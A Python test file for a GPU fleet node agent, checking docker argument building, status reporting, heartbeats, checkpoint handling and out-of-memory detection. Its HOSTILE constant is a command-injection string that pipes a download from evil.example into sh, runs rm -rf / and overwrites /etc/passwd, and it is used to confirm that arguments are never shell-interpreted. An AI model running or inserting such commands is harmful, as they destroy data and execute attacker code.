"""The node agent: what reaches the container, and what it reports."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest

from gpufleet.agent.docker import docker_argv, looks_like_gpu_oom
from gpufleet.agent.node import NodeAgent, RunManifest, RunOutcome
from gpufleet.topology import DETAIL_NODE_FINISHED, DETAIL_NODE_HEARTBEAT, DETAIL_NODE_STARTED

HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"


def manifest(**overrides: Any) -> RunManifest:
    values: dict[str, Any] = {
        "job_id": "j-0123456789abcdef0123",
        "name": "t",
        "image": "img:1",
        "command": ["python", "train.py", HOSTILE],
        "env": {"SECRET_ARG": HOSTILE, "MODE": "x"},
    }
    values.update(overrides)
    return RunManifest(**values)


def test_docker_gets_argv_as_a_list_and_env_values_never_on_the_command_line() -> None:
    argv = docker_argv(manifest())
    assert argv[:2] == ["docker", "run"]
    assert argv[argv.index("--gpus") : argv.index("--gpus") + 2] == ["--gpus", "all"]
    # The hostile argument is one argv element, after the image and '--'.
    separator = argv.index("--")
    assert argv[separator + 1 :] == ["img:1", "python", "train.py", HOSTILE]
    # Env values are not in argv at all: docker reads them from its own environment.
    assert not any(HOSTILE in arg for arg in argv[:separator])
    assert argv[argv.index("MODE") - 1 : argv.index("MODE") + 1] == ["-e", "MODE"]


@dataclass
class FakeIdentity:
    def instance_id(self) -> str:
        return "i-1"

    def tags(self) -> Mapping[str, str]:
        return {"gpufleet:job-id": "j-0123456789abcdef0123", "gpufleet:managed": "true"}


@dataclass
class FakeManifests:
    documents: dict[str, bytes] = field(default_factory=dict)

    def fetch(self, key: str) -> bytes:
        return self.documents[key]


@dataclass
class FakeReporter:
    reports: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
        self.reports.append((detail_type, dict(detail)))


@dataclass
class FakeRuntime:
    outcome: RunOutcome
    seen: list[RunManifest] = field(default_factory=list)

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        self.seen.append(manifest)
        return self.outcome


def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
    document = json.dumps(
        {"job_id": "j-0123456789abcdef0123", "image": "img", "command": ["a", HOSTILE]}
    ).encode()
    reporter = FakeReporter()
    runtime = FakeRuntime(RunOutcome(exit_code=7))
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document}),
        reporter,
        runtime,
    )
    assert agent.run().exit_code == 7
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]
    assert reporter.reports[1][1] == {
        "job_id": "j-0123456789abcdef0123",
        "instance_id": "i-1",
        "phase": "finished",
        "exit_code": 7,
        "reason": "",
    }
    assert runtime.seen[0].command == ["a", HOSTILE]


def test_a_missing_manifest_is_reported_as_a_failure_not_a_hang() -> None:
    reporter = FakeReporter()
    outcome = NodeAgent(FakeIdentity(), FakeManifests(), reporter, FakeRuntime(RunOutcome(0))).run()
    assert outcome.exit_code is None
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
    assert "manifest" in reporter.reports[0][1]["reason"]


@dataclass
class SlowRuntime:
    seconds: float

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        if stop.wait(self.seconds):
            return RunOutcome(exit_code=0, reason="checkpointed on request")
        return RunOutcome(exit_code=0)


def test_the_agent_heartbeats_while_the_container_runs_and_stops_after() -> None:
    document = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "i", "command": ["a"]})
    reporter = FakeReporter()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document.encode()}),
        reporter,
        SlowRuntime(0.35),
        heartbeat_seconds=0.1,
    )
    agent.run()
    kinds = [kind for kind, _ in reporter.reports]
    assert kinds[0] == DETAIL_NODE_STARTED and kinds[-1] == DETAIL_NODE_FINISHED
    assert 2 <= kinds.count(DETAIL_NODE_HEARTBEAT) <= 4
    time.sleep(0.25)
    assert len(reporter.reports) == len(kinds)  # no heartbeat after the finish


def test_a_checkpoint_instruction_stops_the_run_and_is_reported() -> None:
    job = "j-0123456789abcdef0123"
    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
    manifests = FakeManifests({f"runs/{job}/run.json": document})
    reporter = FakeReporter()
    agent = NodeAgent(
        FakeIdentity(), manifests, reporter, SlowRuntime(5.0), control_poll_seconds=0.05
    )
    threading.Timer(
        0.2,
        lambda: manifests.documents.update(
            {f"runs/{job}/control.json": b'{"action": "checkpoint", "reason": "preempted"}'}
        ),
    ).start()
    started = time.monotonic()
    outcome = agent.run()
    assert time.monotonic() - started < 2.0  # stopped long before its 5 s run
    assert outcome.reason == "checkpointed on request"
    assert reporter.reports[-1][1]["reason"] == "checkpointed on request"


def test_a_resumed_run_is_told_where_its_checkpoint_is_by_environment_only() -> None:
    resumed = manifest(resume=True, checkpoint="s3://ckpt/job/")
    argv = docker_argv(resumed)
    assert "GPUFLEET_RESUME_FROM" in argv
    assert not any("s3://ckpt" in arg for arg in argv)


@pytest.mark.parametrize(
    ("log_tail", "oom"),
    [
        ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", True),
        ("RuntimeError: CUDA error: CUBLAS_STATUS_ALLOC_FAILED", True),
        ("ValueError: bad learning rate", False),
    ],
)
def test_gpu_out_of_memory_is_recognised_in_the_log_tail(log_tail: str, oom: bool) -> None:
    assert looks_like_gpu_oom(log_tail) is oom
